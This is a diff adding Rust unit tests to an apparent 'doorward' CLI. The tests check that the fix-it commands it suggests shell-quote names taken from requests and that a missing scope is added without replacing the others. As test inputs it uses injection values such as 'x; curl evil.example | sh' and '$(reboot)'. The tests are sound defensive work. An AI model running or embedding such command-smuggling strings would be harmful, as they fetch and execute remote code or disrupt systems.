@@ -63,6 +63,48 @@ fn commands_carry_real_names() {
     }
 }
 
+/// A request chooses the client and the organization: the printed command runs nothing else.
+#[test]
+fn chosen_names_are_quoted_for_shell() {
+    let mut one = case("client-not-first-party", None, &[]);
+    one.client = Some("x; curl evil.example | sh");
+    assert_eq!(
+        commands(&one),
+        [
+            "if it is the operator's own: doorward client update 'x; curl evil.example | sh' \
+             --first-party true"
+        ]
+    );
+    let roles = ["reader".to_owned()];
+    for rule in ["permission-denied", "owners_only", "needs_permission"] {
+        for command in commands(&case(rule, Some("$(reboot)"), &roles)) {
+            assert!(command.contains("'$(reboot)'"), "{rule}: {command}");
+        }
+    }
+    let place = ResourceLocation::Person("o'neil".to_owned());
+    let mut one = case(OUT_OF_SCOPE, Some("a b"), &[]);
+    one.place = Some(&place);
+    assert_eq!(
+        commands(&one),
+        [r"doorward org add-member 'a b' --user 'o'\''neil'"]
+    );
+}
+
+/// `--scope` replaces the whole list, and would take the other scopes away.
+#[test]
+fn missing_scope_is_added() {
+    let missing = ["admin".to_owned()];
+    let mut one = case("needs_scope", None, &[]);
+    one.missing = &missing;
+    assert_eq!(
+        commands(&one),
+        [
+            "request the scope `admin`; if the client does not have it yet: doorward client update \
+             app --add-scope admin"
+        ]
+    );
+}
+
 #[test]
 fn missing_permission_without_role_requires_new_role() {
     let missing = ["users:read".to_owned(), "users:write".to_owned()];
